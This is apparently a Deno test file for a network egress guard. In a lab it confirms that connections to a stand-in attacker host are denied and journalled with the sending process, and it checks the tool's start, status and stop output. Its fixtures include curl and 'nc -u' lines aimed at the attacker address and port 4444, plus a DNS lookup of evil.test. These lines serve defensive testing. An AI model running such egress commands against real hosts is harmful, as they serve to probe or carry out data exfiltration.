/** What a guard says: on start, when asked, in its journal, and of whom. */
import assert from "node:assert/strict";
import type { CommandResult } from "../lab/command.ts";
import { Lab } from "../lab/lab.ts";
import { ADDRESSES } from "../lab/topology.ts";
import { Guarding, type Judged, sluice } from "./guarding.ts";
import { assertRefused, Probe } from "./probing.ts";

const { attacker, run } = ADDRESSES;
const SHELL = /\/(?:da|ba)?sh$/;
const USER = 65_534;
/** What another thread tells of than the one that judges packets. */
const OF_PROCESSES = new Set(["exec", "step", "privilege", "container"]);

/** What a command in `run` does, and the event that must name it. */
const SENDERS: readonly {
  name: string;
  line: string;
  event: Readonly<Record<string, unknown>>;
  exe: RegExp;
}[] = [
  {
    name: "TCP",
    line: `curl -sS http://${attacker.ipv4}/`,
    event: { protocol: "tcp", destination: { port: 80 } },
    exe: /\/curl$/,
  },
  {
    name: "TCP over IPv6",
    line: `curl -sS http://[${attacker.ipv6}]/`,
    event: { protocol: "tcp", destination: { address: attacker.ipv6 } },
    exe: /\/curl$/,
  },
  {
    name: "UDP",
    line: `echo x | nc -u -w 1 ${attacker.ipv4} 4444`,
    event: { protocol: "udp", destination: { port: 4444 } },
    exe: /\/nc(?:\.openbsd)?$/,
  },
  {
    name: "UDP over IPv6",
    line: `echo x | nc -u -w 1 ${attacker.ipv6} 4444`,
    event: { protocol: "udp", destination: { address: attacker.ipv6 } },
    exe: /\/nc(?:\.openbsd)?$/,
  },
  {
    name: "ICMP",
    line: `ping -c 1 -W 1 ${attacker.ipv4}`,
    event: { protocol: "icmp", destination: { port: 0 } },
    exe: /\/ping$/,
  },
  {
    name: "ICMPv6",
    line: `ping -c 1 -W 1 ${attacker.ipv6}`,
    event: { protocol: "icmp", destination: { address: attacker.ipv6 } },
    exe: /\/ping$/,
  },
  {
    name: "DNS",
    line: "dig +tries=1 evil.test",
    event: { kind: "dns", name: "evil.test", type: "A" },
    exe: /\/dig$/,
  },
];

for (const { name, line, event, exe } of SENDERS) {
  for (const egress of ["audit", "block"] as const) {
    for (const user of [0, USER]) {
      Deno.test(`the journal names who sent ${name} as user ${user} in ${egress} mode`, async () => {
        await using lab = await Lab.up();
        const guard = await Guarding.arm(lab, { egress });
        // The last command of a line takes the shell's place; this one stays.
        await lab.in("run", ["sh", "-c", `${line}; true`], { user, cwd: "/" });
        const [found] = await guard.waitFor({ decision: "deny", ...event });
        assert.ok(found);
        assert.equal(found.enforced, egress === "block");
        const { process } = found;
        assert.ok(process !== null, JSON.stringify(found));
        assert.match(process.exe ?? "", exe);
        assert.equal(process.uid, user);
        const words = line.split(" | ").at(-1)!.split(" ");
        assert.deepEqual(process.args, words);
        const [parent] = process.ancestors;
        assert.match(parent?.exe ?? "", SHELL);
        assert.ok(parent!.pid > 0 && process.pid > 0);
      });
    }
  }
}

Deno.test("start, status and stop print the contract's JSON, and the journal agrees", async () => {
  await using lab = await Lab.up({ container: true });
  const probe = await Probe.compile(lab);
  const allow = ["allowed.test", "allowed.test:7/udp"];
  const guard = await Guarding.arm(lab, { egress: "block", allow });
  const { started } = guard;
  assert.deepEqual(Object.keys(started), [
    ...["armed", "pid", "milliseconds", "journal", "workspaces"],
  ]);
  assert.equal(started.armed, true);
  assert.ok(started.milliseconds > 0 && started.milliseconds < 20_000);
  console.log(`armed after ${started.milliseconds} ms`);
  assert.equal(started.journal, `${lab.directory}/state/journal.ndjson`);
  const exe = await Deno.readLink(`/proc/${started.pid}/exe`);
  assert.equal(exe, Deno.execPath());

  for (const side of ["run", "box"] as const) {
    await lab.in(side, ["curl", "-sS", "-4", "https://allowed.test/"]);
    await lab.in(side, ["dig", "+tries=1", "evil.test"]);
    assertRefused(await probe.one(side, `tcp ${attacker.ipv4} 80`));
    await probe.one(side, "udp 203.0.113.10 7 6869");
  }
  await guard.waitFor({ protocol: "udp", decision: "allow" }, 2);
  const status = await guard.status();
  assert.equal(status.state, "armed");
  assert.equal(status.pid, started.pid);
  assert.equal(status.egress, "block");
  assert.deepEqual(status.lost, []);
  assert.equal(status.coverage.length, 1);
  assert.equal(status.coverage[0]!.to, null);

  const { said, ...stopped } = await guard.stop();
  const verdicts = await guard.verdicts();
  const { connection, dns } = stopped.counts;
  assert.deepEqual({ connection, dns }, countsOf(verdicts));
  assert.deepEqual({ connection, dns }, {
    connection: { allow: 4, deny: 2 },
    dns: { allow: 2, deny: 2 },
  });
  assert.equal(stopped.state, "stopped");
  assert.ok(stopped.coverage[0]!.to !== null);
  assert.match(said, /evil\.test/);
  assert.match(said, /203\.0\.113\.66/);
  await assertSound(guard);
  for (const event of verdicts) {
    if (event.kind === "connection" && event.direction === "output") {
      assert.equal(event.source.address, run.ipv4);
      assert.ok(event.process !== null, JSON.stringify(event));
    }
    if (event.kind === "dns" && event.decision === "allow") {
      assert.ok(event.answers!.includes("203.0.113.10"), `${event.answers}`);
    }
  }
  const names = verdicts.flatMap((event) =>
    event.kind === "connection" && event.decision === "allow" ? event.names : []
  );
  assert.deepEqual(new Set(names), new Set(["allowed.test"]));
});

Deno.test("the journal stays sound under many senders at once", async () => {
  await using lab = await Lab.up();
  const probe = await Probe.compile(lab);
  const allow = ["203.0.113.10:80"];
  const guard = await Guarding.arm(lab, { egress: "block", allow });
  const load = `load 1000 203.0.113.10 80 ${attacker.ipv4} 4444`;
  const loads = await Promise.all(
    [1, 2, 3, 4].map(() => probe.run("run", load)),
  );
  await guard.stop();
  const verdicts = await guard.verdicts();
  await assertSound(guard);
  const ofAllowed = loads.flat().filter(({ result }) => result === "ok");
  const allowed = verdicts.filter(({ decision }) => decision === "allow");
  assert.equal(allowed.length, ofAllowed.length);
  assert.ok(verdicts.every(({ process }) => process?.exe === probe.path));
});

Deno.test("a guard without --netns guards where it is, and asks nobody anything itself", async () => {
  await using lab = await Lab.up();
  const state = `${lab.directory}/state`;
  const inRun = ["nsenter", `--net=${lab.netnsPath("run")}`, "--"];
  await lab.onCleanup(`cat ${state}/guard.json > /dev/null 2>&1; :`);
  const armed = await sluice(
    ["start", "--egress", "block", "--state", state, "--resolver"].concat(
      [ADDRESSES.resolver.ipv4, "--allow", "allowed.test"],
    ),
    inRun,
  );
  assert.equal(armed.code, 0, armed.stderr);
  const fetch = ["curl", "-sS", "-4", "https://allowed.test/"];
  assert.equal((await lab.in("run", fetch)).code, 0);
  const evil = ["curl", "-sS", "https://evil.test/"];
  assert.notEqual((await lab.in("run", evil)).code, 0);
  // Deno looks for its own releases half a second after its start.
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  const own = (await lab.resolver.queries()).filter(({ client }) =>
    client === run.ipv4
  );
  assert.deepEqual(new Set(own.map((q) => q.name)), new Set(["allowed.test"]));
  const stopped = await stop(state);
  assert.equal(stopped.code, 0, stopped.stderr);
  assert.doesNotMatch(stopped.stderr, /deno\.land/);
});

async function stop(state: string): Promise<CommandResult> {
  return await sluice(["stop", "--state", state]);
}

/**
 * Times ascend, for each thread that tells of something; that numbers have no
 * gap, reading them has shown.
 */
async function assertSound(guard: Guarding): Promise<void> {
  const events = await guard.events();
  for (const isOfProcesses of [false, true]) {
    const times = events
      .filter(({ kind }) => OF_PROCESSES.has(kind) === isOfProcesses)
      .map(({ time }) => time);
    assert.deepEqual(times, times.toSorted());
  }
  assert.deepEqual(
    events.map(({ seq }) => seq),
    events.map((_, index) => index + 1),
  );
}

function countsOf(verdicts: readonly Judged[]) {
  const count = (kind: string, decision: string) =>
    verdicts.filter((e) => e.kind === kind && e.decision === decision).length;
  const both = (kind: string) => ({
    allow: count(kind, "allow"),
    deny: count(kind, "deny"),
  });
  return { connection: both("connection"), dns: both("dns") };
}
